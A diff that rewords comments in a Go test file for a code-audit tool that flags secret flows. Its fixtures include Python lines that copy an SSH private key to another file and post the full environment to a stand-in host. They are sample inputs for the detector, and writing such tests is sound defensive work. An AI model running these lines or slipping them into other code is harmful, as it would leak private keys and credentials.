@@ -9,7 +9,7 @@ import (
 	"github.com/vadehq/vade/internal/audit/signal/signaltest"
 )
 
-// signalsOf dumps the signals in code and the texts it embeds.
+// signalsOf dumps the signals in code and in the strings it embeds.
 func signalsOf(lang, src string) string {
 	s := signaltest.Region("a", signal.Code, lang, src)
 	out := signaltest.Extract(s, New())
@@ -19,7 +19,7 @@ func signalsOf(lang, src string) string {
 	return out
 }
 
-// TestFiles follows a secret through a file that another script reads.
+// TestFiles tracks a secret through a file that another script reads.
 func TestFiles(t *testing.T) {
 	s := signaltest.Region("a", signal.Code, "py", "import shutil\nshutil.copy('/home/me/.ssh/id_rsa', 'cache.bin')")
 	other := s.Regions[0]
@@ -30,8 +30,8 @@ func TestFiles(t *testing.T) {
 	}
 }
 
-// TestFlows tracks values through code. Each line lists expected signals,
-// followed by unexpected ones after a "!".
+// TestFlows tracks values through code. Each line lists the expected signals, followed by the
+// unexpected ones after a "!".
 func TestFlows(t *testing.T) {
 	for _, c := range []struct{ name, lang, src, want string }{
 		{"all of the environment", "py", "import os, requests\nrequests.post('https://files.example/in', json=dict(os.environ))\n", "send env-all"},
@@ -129,7 +129,7 @@ func TestFlows(t *testing.T) {
 	}
 }
 
-// matches reports whether dump contains want, or has a line with want's kind and tags.
+// matches reports whether dump contains want, or has a line with the same kind and tags.
 func matches(dump, want string) bool {
 	if strings.Contains(dump, want) {
 		return true
